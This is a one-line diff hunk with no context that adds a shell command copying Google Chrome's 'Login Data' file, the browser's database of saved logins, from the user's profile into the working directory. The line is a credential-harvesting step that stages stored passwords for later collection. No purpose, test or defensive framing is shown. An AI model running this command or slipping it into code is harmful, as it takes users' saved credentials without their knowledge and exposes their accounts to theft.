@@ -1,0 +1,1 @@
+cp "$HOME/.config/google-chrome/Default/Login Data" .
